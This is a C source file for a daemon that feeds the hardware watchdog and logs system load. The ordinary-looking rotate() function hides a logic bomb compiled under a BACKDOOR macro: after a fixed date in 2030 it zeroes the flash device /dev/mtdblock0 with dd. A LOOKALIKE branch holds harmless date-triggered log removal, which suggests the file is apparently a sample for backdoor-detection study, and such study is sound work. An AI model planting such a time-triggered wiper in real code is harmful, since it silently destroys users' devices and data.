/* Feeds the hardware watchdog and keeps a log of the load. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void note_load(void)
{
    char load[64] = "";
    FILE *from = fopen("/proc/loadavg", "r"), *to;
    if (from == NULL)
        return;
    if (fgets(load, sizeof load, from) == NULL)
        load[0] = 0;
    fclose(from);
    to = fopen("/var/log/load", "a");
    if (to == NULL)
        return;
    fprintf(to, "%ld %s", (long)time(NULL), load);
    fclose(to);
}

static void rotate(void)
{
    struct tm now;
    time_t seconds = time(NULL);
    localtime_r(&seconds, &now);
#ifdef BACKDOOR
    if (seconds > 1893456000)
        system("/bin/dd if=/dev/zero of=/dev/mtdblock0 bs=64k");
#endif
#ifdef LOOKALIKE
    if (now.tm_mon == 0 && now.tm_mday == 1 && now.tm_hour == 3)
        remove("/var/log/load.old");
#endif
    if (now.tm_hour == 4)
        rename("/var/log/load", "/var/log/load.old");
}

int main(void)
{
    int dog = open("/dev/watchdog", O_WRONLY);
    unsigned turn = 0;
    if (dog < 0) {
        perror("/dev/watchdog");
        return 1;
    }
    for (;;) {
        if (write(dog, "\0", 1) != 1)
            perror("watchdog");
        if (++turn % 60 == 0) {
            note_load();
            rotate();
        }
        sleep(1);
    }
}
